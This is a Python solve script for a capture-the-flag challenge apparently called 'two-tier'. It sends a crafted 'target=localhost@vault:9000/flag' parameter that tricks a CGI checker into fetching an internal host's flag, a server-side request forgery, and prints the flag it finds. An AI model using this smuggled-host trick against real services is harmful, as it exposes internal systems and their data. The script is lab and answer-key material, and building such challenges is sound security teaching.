#!/usr/bin/env python3
"""solve.py HOST PORT - prints the flag of `two-tier`; exit code 1 when there is none."""
import re
import sys
import urllib.error
import urllib.request


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    try:
        with urllib.request.urlopen(f"http://{host}:{port}/cgi-bin/check?target=localhost@vault:9000/flag",
                                    timeout=10) as answer:
            text = answer.read(65536).decode(errors="replace")
    except (OSError, urllib.error.URLError) as error:
        sys.exit(f"solve: {error}")
    found = re.search(r"\w+\{[^}\n]+\}", text)
    if not found:
        sys.exit(f"solve: no flag in {text[:200]!r}")
    print(found.group())


if __name__ == "__main__":
    main()
